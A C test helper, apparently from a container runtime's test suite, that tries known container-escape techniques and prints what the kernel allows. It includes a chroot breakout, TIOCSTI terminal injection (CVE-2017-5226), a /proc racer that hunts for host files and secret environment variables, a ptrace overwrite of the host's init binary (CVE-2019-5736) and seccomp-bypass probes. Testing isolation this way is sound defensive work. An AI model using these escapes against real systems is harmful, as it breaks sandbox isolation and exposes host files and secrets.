// escape-probe: a tiny static program the tests compile (gcc -static) and
// copy into a container's root, to make the system calls busybox has no
// applet for. One verb per run; it prints `VERB: ok` or `VERB: ERRNONAME`
// (`racer` writes its findings to a file instead, see below)
// and exits 0, so that the test reads what the kernel said. A process the
// seccomp filter kills (another ABI) dies of SIGSYS instead.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <dirent.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sys/stat.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *errno_name(int code) {
    switch (code) {
    case EPERM: return "EPERM";
    case ENOSYS: return "ENOSYS";
    case EACCES: return "EACCES";
    case EINVAL: return "EINVAL";
    case ENOENT: return "ENOENT";
    case EROFS: return "EROFS";
    case ENOSPC: return "ENOSPC";
    case EUSERS: return "EUSERS";
    case EFAULT: return "EFAULT";
    case ENOTTY: return "ENOTTY";
    case EIO: return "EIO";
    case ENXIO: return "ENXIO";
    default: return "EOTHER";
    }
}

static int report(const char *verb, long result) {
    if (result < 0) printf("%s: %s\n", verb, errno_name(errno));
    else printf("%s: ok\n", verb);
    return 0;
}

// clone(flags) as the raw system call, the child exiting at once.
static long clone_with(unsigned long flags) {
    long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) _exit(0);
    if (pid > 0) waitpid((pid_t)pid, NULL, 0);
    return pid;
}

// The classic escape from a bare chroot: chroot into a subdirectory (the
// working directory stays outside it), climb with `..` past the old root,
// and chroot there. Then look for a file that exists only on the host.
static int chroot_escape(const char *host_marker) {
    mkdir("escape-dir", 0755);
    if (chroot("escape-dir") < 0) return report("chroot", -1);
    for (int i = 0; i < 64; i++) {
        if (chdir("..") < 0) break;
    }
    if (chroot(".") < 0) return report("chroot", -1);
    struct stat st;
    printf("chroot-escape: %s\n", stat(host_marker, &st) == 0 ? "escaped" : "contained");
    return 0;
}

// The terminal escape of CVE-2017-5226: push TEXT and a carriage return
// into the input queue of the terminal on `fd`, one byte at a time with
// TIOCSTI, as if typed and entered. On a terminal it shares with ctrsh,
// ctrsh's prompt would read and run it.
static int inject(const char *verb, int fd, const char *text) {
    static const char enter = '\r';
    for (const char *p = text;; p++) {
        if (ioctl(fd, TIOCSTI, *p ? p : &enter) < 0) return report(verb, -1);
        if (!*p) return report(verb, 0);
    }
}

// MARK: - racer

// What root in a container tries against a process that joins it (`exec`)
// while that process is still a copy of ctrsh: every other process's
// descriptors through /proc/PID/fd (and `..` from a directory among them),
// its cwd and root links, its environment. Each finding is one line in
// OUT, written once (the first 128): `fd PID N -> LINK` for any descriptor above 2 (a
// program ctrsh started has only 0, 1 and 2), `ESCAPED via WHAT: TEXT` when
// the host's marker file was read, `LEAK environ PID` when ctrsh's secret
// environment variable was. Runs until STOP exists (at most 10 minutes).

static FILE *race_out;
static char race_seen[128][1024];
static int race_seen_count;

static void race_report(const char *line) {
    for (int i = 0; i < race_seen_count; i++)
        if (strcmp(race_seen[i], line) == 0) return;
    if (race_seen_count == 128) return;  // enough to tell
    snprintf(race_seen[race_seen_count++], sizeof race_seen[0], "%s", line);
    fprintf(race_out, "%s\n", line);
    fflush(race_out);
}

// Reads the marker through `dir` (a descriptor or a /proc link) climbing
// with `..` to whatever root lies above it; reports when that worked.
static void race_try_marker(int dir, const char *base, const char *marker, const char *what) {
    if (strlen(base) + strlen(marker) > PATH_MAX - 64) return;
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s../../../../../../../../../../../../../../..%s", base, marker);
    int fd = openat(dir, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    char text[64] = {0};
    ssize_t n = read(fd, text, sizeof text - 1);
    close(fd);
    if (n <= 0) return;
    text[strcspn(text, "\n")] = '\0';
    char line[640];
    snprintf(line, sizeof line, "ESCAPED via %s: %s", what, text);
    race_report(line);
}

static void race_descriptors(const char *pid, const char *marker) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *fds = opendir(path);
    if (fds == NULL) return;
    struct dirent *entry;
    while ((entry = readdir(fds)) != NULL) {
        if (entry->d_name[0] == '.' || atoi(entry->d_name) <= 2) continue;
        char link_path[600], target[256] = {0}, line[1024];
        snprintf(link_path, sizeof link_path, "/proc/%s/fd/%s", pid, entry->d_name);
        if (readlink(link_path, target, sizeof target - 1) < 0) continue;
        snprintf(line, sizeof line, "fd %s %s -> %s", pid, entry->d_name, target);
        race_report(line);
        int fd = open(link_path, O_PATH | O_CLOEXEC);
        if (fd < 0) continue;
        struct stat st;
        if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
            snprintf(line, sizeof line, "fd %s %s", pid, entry->d_name);
            race_try_marker(fd, "", marker, line);
        }
        close(fd);
    }
    closedir(fds);
}

static void race_links(const char *pid, const char *marker, const char *secret) {
    char base[300], what[300];
    snprintf(base, sizeof base, "/proc/%s/cwd/", pid);
    snprintf(what, sizeof what, "cwd of %s", pid);
    race_try_marker(AT_FDCWD, base, marker, what);
    snprintf(base, sizeof base, "/proc/%s/root/", pid);
    snprintf(what, sizeof what, "root of %s", pid);
    race_try_marker(AT_FDCWD, base, marker, what);
    char path[300], environment[8192];
    snprintf(path, sizeof path, "/proc/%s/environ", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    ssize_t n = read(fd, environment, sizeof environment - 1);
    close(fd);
    if (n <= 0) return;
    for (ssize_t i = 0; i < n; i++)
        if (environment[i] == '\0') environment[i] = '\n';
    environment[n] = '\0';
    if (strstr(environment, secret) != NULL) {
        char line[640];
        snprintf(line, sizeof line, "LEAK environ %s", pid);
        race_report(line);
    }
}

static int racer(const char *marker, const char *secret, const char *out, const char *stop) {
    race_out = fopen(out, "w");
    if (race_out == NULL) return report("racer", -1);
    char self[16];
    snprintf(self, sizeof self, "%d", (int)getpid());
    fprintf(race_out, "racer: ready\n");
    fflush(race_out);
    time_t end = time(NULL) + 600;
    long scans = 0;
    while (access(stop, F_OK) != 0 && time(NULL) < end) {
        DIR *proc = opendir("/proc");
        if (proc == NULL) return report("racer", -1);
        struct dirent *entry;
        while ((entry = readdir(proc)) != NULL) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || strcmp(entry->d_name, self) == 0) continue;
            race_descriptors(entry->d_name, marker);
            race_links(entry->d_name, marker, secret);
        }
        closedir(proc);
        scans++;
    }
    fprintf(race_out, "racer: done after %ld scans\n", scans);
    fclose(race_out);
    return 0;
}

// runc's CVE-2019-5736: PID 1 of a started container is ctrsh-init, a file
// of the host. Hold it through /proc/1/exe, make PID 1 execve `program` (a
// ptrace-injected system call: PTRACE_INTERRUPT needs no signal, which a
// namespace init would ignore), so that the host file is no longer being
// executed (no ETXTBSY), and open the held file for writing; on success
// append `marker`. Prints `init-exe-open`, `init-exe-ptrace` and
// `init-exe-write`, each `ok` or an errno name.
static int overwrite_init(const char *program, const char *marker) {
    setvbuf(stdout, NULL, _IONBF, 0);  // PID 1 replaced may end the namespace
    int exe = open("/proc/1/exe", O_PATH | O_CLOEXEC);
    report("init-exe-open", exe);
    if (exe < 0) return 0;
    long traced = ptrace(PTRACE_SEIZE, 1, 0, 0);
    if (traced == 0) traced = ptrace(PTRACE_INTERRUPT, 1, 0, 0);
    int status;
    if (traced == 0) traced = waitpid(1, &status, __WALL);
    struct user_regs_struct r;
    if (traced >= 0) traced = ptrace(PTRACE_GETREGS, 1, 0, &r);
    report("init-exe-ptrace", traced);
    if (traced < 0) return 0;
    // The path and argv well below PID 1's stack pointer; rip back onto
    // the `syscall` instruction it stopped after, orig_rax -1: no restart.
    unsigned long base = (r.rsp - 4096) & ~0xfUL;
    char path[64] = {0};
    strncpy(path, program, sizeof path - 1);
    for (int i = 0; i < 64; i += 8) ptrace(PTRACE_POKEDATA, 1, (void *)(base + i), *(long *)(path + i));
    const char seconds[8] = "100000";  // `program 100000`: a sleep outlives the probe
    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 96), *(long *)seconds);
    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 64), (void *)base);
    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 72), (void *)(base + 96));
    ptrace(PTRACE_POKEDATA, 1, (void *)(base + 80), 0);
    r.rip -= 2;
    r.rax = SYS_execve;
    r.orig_rax = -1;
    r.rdi = base;
    r.rsi = base + 64;  // {path, "100000", NULL}
    r.rdx = 0;
    ptrace(PTRACE_SETREGS, 1, 0, &r);
    ptrace(PTRACE_DETACH, 1, 0, 0);
    char self[32];
    snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
    int fd = -1;
    for (int i = 0; i < 300 && fd < 0; i++) {  // until PID 1 has left the file
        fd = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd < 0) usleep(10000);
    }
    if (fd >= 0 && write(fd, marker, strlen(marker)) < 0) fd = -1;
    return report("init-exe-write", fd);
}

// A terminal's title report: `ESC ] 2 ; TITLE BEL` sets the title, `CSI 21
// t` asks the terminal to type it back. `print` writes the two and exits;
// `attributes-first` asks for the device attributes (`CSI c`) before them;
// `name` makes them this process's name (argv[0], what `ps` shows) and
// sleeps; `file` names a file so (a `/` in TITLE becomes `_`).
static int title_query(const char *how, const char *title) {
    char query[512];
    snprintf(query, sizeof query, "\033]2;%s\007\033[21t", title);
    if (strcmp(how, "print") == 0 || strcmp(how, "attributes-first") == 0) {
        if (how[0] == 'a') fputs("\033[c", stdout);
        fputs(query, stdout);
        return 0;
    }
    if (strcmp(how, "file") == 0) {  // a file in / named so
        char path[520];
        snprintf(path, sizeof path, "/%s", query);
        for (char *c = path + 1; *c; c++) if (*c == '/') *c = '_';
        return report("title-query", open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    }
    if (strcmp(how, "sleep") == 0) {
        pause();
        return 0;
    }
    char *args[] = {query, "title-query", "sleep", "-", NULL};
    execv("/proc/self/exe", args);
    return report("title-query", -1);
}

// `depth` directories, each inside the last (`/deep/d/d/…`), made relative
// to the working directory so that PATH_MAX is no limit.
static int deep_tree(const char *depth) {
    long levels = strtol(depth, NULL, 10);
    if (mkdir("/deep", 0755) < 0 || chdir("/deep") < 0) return report("deep", -1);
    for (long i = 0; i < levels; i++) {
        if (mkdir("d", 0755) < 0 || chdir("d") < 0) return report("deep", -1);
    }
    return report("deep", 0);
}

// `count` regular files DIR/tNNNN and as many FIFOs DIR/uNNNN, then,
// after `swap: ok`, exchanges each pair for ever (renameat2
// RENAME_EXCHANGE): a process that stats a name and then opens it may
// open a FIFO (and block) where it saw a file.
static int swap_files(const char *directory, const char *count) {
    long pairs = strtol(count, NULL, 10);
    char file[PATH_MAX], fifo[PATH_MAX];
    if (mkdir(directory, 0755) < 0) return report("swap", -1);
    for (long i = 0; i < pairs; i++) {
        snprintf(file, sizeof file, "%s/t%04ld", directory, i);
        snprintf(fifo, sizeof fifo, "%s/u%04ld", directory, i);
        int fd = open(file, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
        if (fd < 0 || write(fd, "file\n", 5) != 5 || close(fd) < 0 || mkfifo(fifo, 0644) < 0) return report("swap", -1);
    }
    report("swap", 0);
    fflush(stdout);
    for (;;) {
        for (long i = 0; i < pairs; i++) {
            snprintf(file, sizeof file, "%s/t%04ld", directory, i);
            snprintf(fifo, sizeof fifo, "%s/u%04ld", directory, i);
            syscall(SYS_renameat2, AT_FDCWD, file, AT_FDCWD, fifo, 2 /* RENAME_EXCHANGE */);
        }
    }
}

int main(int argc, char **argv) {
    const char *verb = argc > 1 ? argv[1] : "";
    if (strcmp(verb, "keyctl") == 0)  // KEYCTL_GET_KEYRING_ID of the session keyring
        return report(verb, syscall(SYS_keyctl, 0, -3, 0));
    if (strcmp(verb, "unshare-user") == 0) return report(verb, unshare(CLONE_NEWUSER));
    if (strcmp(verb, "clone-user") == 0) return report(verb, clone_with(CLONE_NEWUSER));
    if (strcmp(verb, "clone-plain") == 0) return report(verb, clone_with(0));
    if (strcmp(verb, "clone3") == 0) {
        uint64_t args[11] = {0};
        args[4] = SIGCHLD;  // exit_signal
        long pid = syscall(SYS_clone3, args, sizeof args);
        if (pid == 0) _exit(0);
        if (pid > 0) waitpid((pid_t)pid, NULL, 0);
        return report(verb, pid);
    }
    if (strcmp(verb, "io_uring") == 0) {
        char params[120] = {0};  // struct io_uring_params
        long fd = syscall(SYS_io_uring_setup, 1, params);
        if (fd >= 0) close((int)fd);
        return report(verb, fd);
    }
#if defined(__x86_64__)
    if (strcmp(verb, "i386-getpid") == 0) {  // the i386 ABI through int 0x80: getpid is 20 there
        long result;
        __asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory");
        if (result < 0) { errno = (int)-result; result = -1; }
        return report(verb, result);
    }
    if (strcmp(verb, "x32-getpid") == 0)  // the x32 ABI: getpid (39) with __X32_SYSCALL_BIT
        return report(verb, syscall(0x40000000L | 39));
#endif
    if (strcmp(verb, "chroot-escape") == 0 && argc > 2) return chroot_escape(argv[2]);
    // tiocsti TEXT: into standard input's terminal; tiocsti-tty TEXT: into
    // the controlling terminal (/dev/tty), whatever standard input is.
    if (strcmp(verb, "tiocsti") == 0 && argc > 2) return inject(verb, STDIN_FILENO, argv[2]);
    // The request with its high 32 bits set: the kernel reads an unsigned
    // int, so this is TIOCSTI all the same, and the filter must see that.
    if (strcmp(verb, "tiocsti-high") == 0) {
        char c = '\r';
        return report(verb, syscall(SYS_ioctl, STDIN_FILENO, 0xFFFFFFFF00000000UL | TIOCSTI, &c));
    }
    // A socket to the hypervisor (AF_VSOCK, 40), and the same with the
    // family's high bits set (the kernel reads an int).
    if (strcmp(verb, "vsock") == 0) {
        long fd = syscall(SYS_socket, 40L, SOCK_STREAM | SOCK_CLOEXEC, 0L);
        return report(verb, fd);
    }
    if (strcmp(verb, "vsock-high") == 0) {
        long fd = syscall(SYS_socket, 0x100000000L | 40L, SOCK_STREAM | SOCK_CLOEXEC, 0L);
        return report(verb, fd);
    }
    if (strcmp(verb, "tiocsti-tty") == 0 && argc > 2) {
        int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
        if (fd < 0) return report(verb, -1);
        return inject(verb, fd, argv[2]);
    }
    if (strcmp(verb, "deep") == 0 && argc > 2) return deep_tree(argv[2]);
    if (strcmp(verb, "swap") == 0 && argc > 3) return swap_files(argv[2], argv[3]);
    if (strcmp(verb, "title-query") == 0 && argc > 3) return title_query(argv[2], argv[3]);
    if (strcmp(verb, "init-exe") == 0 && argc > 3) return overwrite_init(argv[2], argv[3]);
    if (strcmp(verb, "racer") == 0 && argc > 5) return racer(argv[2], argv[3], argv[4], argv[5]);
    fprintf(stderr, "usage: escape-probe keyctl|unshare-user|clone-user|clone-plain|clone3|io_uring|i386-getpid|x32-getpid|"
                    "chroot-escape MARKER|tiocsti TEXT|tiocsti-tty TEXT|tiocsti-high|vsock|vsock-high|racer MARKER SECRET OUT STOP|init-exe PROGRAM MARKER|title-query print|attributes-first|name|file TITLE|deep DEPTH\n");
    return 2;
}
